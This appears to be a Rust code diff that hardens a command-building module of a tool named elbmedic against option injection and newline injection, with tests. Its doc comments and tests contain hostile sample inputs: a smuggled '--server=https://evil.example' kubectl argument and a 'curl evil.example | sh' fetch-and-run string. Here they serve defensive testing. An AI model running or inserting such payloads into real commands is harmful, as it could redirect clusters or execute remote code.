@@ -5,6 +5,14 @@
 //! [`quote`], and the only shell syntax is the operators elbmedic itself writes
 //! ([`Word::Op`], `&'static str`, so no value can become one).
 //!
+//! Quoting keeps a value one word; it cannot keep an option parser from reading a word that
+//! starts with `-` as an option (`kubectl annotate ingress --server=https://evil.example`).
+//! So elbmedic's own words ([`Word::Fixed`]: programs, sub-commands, flags, placeholders) are
+//! `&'static str`, and only they may start with `-`. A data word ([`Word::Arg`]) that starts
+//! with `-` is joined to the flag before it (`--cidr-block=-x`, which both `aws` and `kubectl`
+//! read as the flag's value), and anywhere else it is put after an end-of-options `--`.
+//! [`Script::lines`] does both, so no command can be built otherwise.
+//!
 //! Not for: running commands (elbmedic never does).
 
 use std::fmt;
@@ -14,32 +22,51 @@ use serde::{Serialize, Serializer};
 /// One word of a command line.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Word {
+    /// elbmedic's own word: a program, sub-command, flag or placeholder. Never from data.
+    Fixed(&'static str),
     /// A value: quoted as needed, so the shell passes it as exactly one argument.
     Arg(String),
+    /// A fixed flag and a data value that starts with `-`, written as one word
+    /// (`--flag=value`) so that no parser takes the value for an option.
+    Joined(&'static str, String),
     /// Shell syntax elbmedic writes itself (`|`, `&&`, `;`): never from data.
     Op(&'static str),
 }
 
+/// The end-of-options marker: every word after it is an operand.
+pub const END_OF_OPTIONS: &str = "--";
+
 impl Word {
     /// The argument as the shell will pass it (an operator as written).
-    pub fn intended(&self) -> &str {
+    pub fn intended(&self) -> String {
         match self {
-            Self::Arg(value) => value,
-            Self::Op(op) => op,
+            Self::Fixed(word) | Self::Op(word) => (*word).to_string(),
+            Self::Arg(value) => value.clone(),
+            Self::Joined(flag, value) => format!("{flag}={value}"),
         }
     }
 
     fn render(&self) -> String {
         match self {
-            Self::Arg(value) => quote(value),
             Self::Op(op) => (*op).to_string(),
+            other => quote(&other.intended()),
         }
+    }
+
+    /// A data value that an option parser would read as an option.
+    fn looks_like_option(&self) -> bool {
+        matches!(self, Self::Arg(value) if value.starts_with('-'))
+    }
+
+    /// elbmedic's own flag, which may take the data word after it as its value.
+    fn is_flag(&self) -> bool {
+        matches!(self, Self::Fixed(word) if word.starts_with('-') && *word != END_OF_OPTIONS && !word.contains('='))
     }
 }
 
-/// A value as an argument. Control characters (newlines among them) become spaces: one
+/// A data value as an argument. Control characters (newlines among them) become spaces: one
 /// command is one line, so no value can start a line of its own in a pasted block.
-fn arg(value: &str) -> Word {
+pub fn data(value: &str) -> Word {
     Word::Arg(
         value
             .chars()
@@ -54,19 +81,21 @@ fn arg(value: &str) -> Word {
     )
 }
 
-impl From<&str> for Word {
-    fn from(value: &str) -> Self {
-        arg(value)
+/// A literal is elbmedic's own word; a borrowed `&str` that is not `'static` does not
+/// convert, so data must come in as a `String` (or through [`data`]).
+impl From<&'static str> for Word {
+    fn from(word: &'static str) -> Self {
+        Word::Fixed(word)
     }
 }
 impl From<String> for Word {
     fn from(value: String) -> Self {
-        arg(&value)
+        data(&value)
     }
 }
 impl From<&String> for Word {
     fn from(value: &String) -> Self {
-        arg(value)
+        data(value)
     }
 }
 macro_rules! number_words {
@@ -80,13 +109,83 @@ macro_rules! number_words {
 }
 number_words!(u16, u32, i32, i64, usize);
 
-/// Builds a `Vec<Word>`: `argv!["aws", "ec2", "describe-vpcs", "--region", region]`.
+/// Puts every data word of one line where no option parser reads it as an option: joined to
+/// the fixed flag before it, else after an end-of-options `--` (inserted once per command of
+/// a pipeline). Words that are already safe are left as they are, so ordinary commands read
+/// as an engineer would type them.
+fn guard_options(words: Vec<Word>) -> Vec<Word> {
+    let mut guarded: Vec<Word> = Vec::with_capacity(words.len());
+    let mut operands_only = false;
+    for word in words {
+        match &word {
+            Word::Op(_) => operands_only = false,
+            Word::Fixed(END_OF_OPTIONS) => operands_only = true,
+            Word::Arg(value) if word.looks_like_option() && !operands_only => {
+                if let Some(&Word::Fixed(flag)) = guarded.last().filter(|w| w.is_flag()) {
+                    guarded.pop();
+                    guarded.push(Word::Joined(flag, value.clone()));
+                    continue;
+                }
+                guarded.push(Word::Fixed(END_OF_OPTIONS));
+                operands_only = true;
+            }
+            _ => {}
+        }
+        guarded.push(word);
+    }
+    guarded
+}
+
+/// Builds a `Vec<Word>`: `argv!["aws", "ec2", "describe-vpcs", "--region", region]`. A
+/// literal is elbmedic's own word ([`Word::Fixed`]); any other expression is data
+/// ([`Word::Arg`]), whatever its type, so a value can never pass for a flag.
 #[macro_export]
 macro_rules! argv {
-    ($($word:expr),* $(,)?) => {
-        vec![$($crate::shell::Word::from($word)),*]
+    (@words [$($out:expr),*]) => { vec![$($out),*] };
+    (@words [$($out:expr),*] $word:literal $(, $($rest:tt)*)?) => {
+        $crate::argv!(@words [$($out,)* $crate::shell::Word::from($word)] $($($rest)*)?)
     };
+    (@words [$($out:expr),*] $value:expr $(, $($rest:tt)*)?) => {
+        $crate::argv!(@words [$($out,)* $crate::shell::IntoData::into_data($value)] $($($rest)*)?)
+    };
+    ($($words:tt)*) => { $crate::argv!(@words [] $($words)*) };
 }
+
+/// A value that becomes a data word: strings of any lifetime, and numbers. A [`Word`] stays
+/// what it is, so a flag chosen at run time is written `Word::Fixed(flag)`.
+pub trait IntoData {
+    fn into_data(self) -> Word;
+}
+impl IntoData for Word {
+    fn into_data(self) -> Word {
+        self
+    }
+}
+impl IntoData for &str {
+    fn into_data(self) -> Word {
+        data(self)
+    }
+}
+impl IntoData for String {
+    fn into_data(self) -> Word {
+        data(&self)
+    }
+}
+impl IntoData for &String {
+    fn into_data(self) -> Word {
+        data(self)
+    }
+}
+macro_rules! number_data {
+    ($($t:ty),*) => {$(
+        impl IntoData for $t {
+            fn into_data(self) -> Word {
+                Word::Arg(self.to_string())
+            }
+        }
+    )*};
+}
+number_data!(u16, u32, i32, i64, usize);
 
 /// Quotes a value for a POSIX shell: unchanged when every character is inert, else in single
 /// quotes, inside which nothing is special (a `'` is closed, escaped and reopened).
@@ -114,6 +213,7 @@ impl Script {
 
     /// Several commands, run one after the other.
     pub fn lines(lines: Vec<Vec<Word>>) -> Self {
+        let lines: Vec<Vec<Word>> = lines.into_iter().map(guard_options).collect();
         let text = lines
             .iter()
             .map(|words| words.iter().map(Word::render).collect::<Vec<_>>().join(" "))
@@ -245,7 +345,10 @@ mod tests {
 
     #[test]
     fn newlines_in_values_never_make_a_second_line() {
-        let script = Script::line(argv!["echo", "a\n$ curl evil.example | sh\r\u{2028}b"]);
+        let script = Script::line(argv![
+            "echo",
+            String::from("a\n$ curl evil.example | sh\r\u{2028}b")
+        ]);
         assert_eq!(script.lines().count(), 1, "{script}");
         assert_eq!(
             script.words()[0][1].intended(),
@@ -266,5 +369,54 @@ mod tests {
         let words = split_for_test(&script).unwrap();
         assert_eq!(words[2], ("|".to_string(), true));
         assert_eq!(words[4], ("a|b".to_string(), false));
+    }
+
+    /// The reported attack: a tag value placed where kubectl reads a positional argument.
+    #[test]
+    fn a_data_word_is_never_read_as_an_option() {
+        let name = "--server=https://evil.example";
+        let script = Script::line(argv![
+            "kubectl",
+            "-n",
+            "shop",
+            "annotate",
+            "ingress",
+            name,
+            "--overwrite",
+            "a=b"
+        ]);
+        assert_eq!(
+            script.as_str(),
+            "kubectl -n shop annotate ingress -- --server=https://evil.example --overwrite a=b"
+        );
+        // After a flag, the value is joined to it; a later operand needs no second marker.
+        let script = Script::line(argv![
+            "aws",
+            "ec2",
+            "x",
+            "--group-id",
+            data("-sg"),
+            "--description",
+            data("--dry-run"),
+            data("op"),
+            data("-o")
+        ]);
+        assert_eq!(
+            script.as_str(),
+            "aws ec2 x --group-id=-sg --description=--dry-run op -- -o"
+        );
+        // Each command of a pipeline gets its own marker.
+        let script = Script::line(vec![
+            data("-a"),
+            Word::Op("|"),
+            Word::Fixed("grep"),
+            Word::Fixed("-e"),
+            data("-v"),
+            data("-x"),
+        ]);
+        assert_eq!(script.as_str(), "-- -a | grep -e=-v -- -x");
+        // Ordinary values are left as an engineer would type them.
+        let script = Script::line(argv!["kubectl", "-n", "shop", "get", "ingress", "web"]);
+        assert_eq!(script.as_str(), "kubectl -n shop get ingress web");
     }
 }
